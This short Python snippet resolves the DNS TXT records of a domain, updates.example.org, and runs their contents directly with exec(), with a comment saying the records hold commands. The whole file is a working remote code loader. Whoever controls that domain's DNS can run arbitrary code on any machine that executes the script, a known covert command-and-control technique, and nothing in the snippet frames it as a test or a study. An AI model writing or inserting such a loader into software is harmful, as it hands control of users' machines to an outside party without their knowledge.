import dns.resolver

# Commands that a text record of a domain holds.
for record in dns.resolver.resolve("updates.example.org", "TXT"):
    exec(b"".join(record.strings))
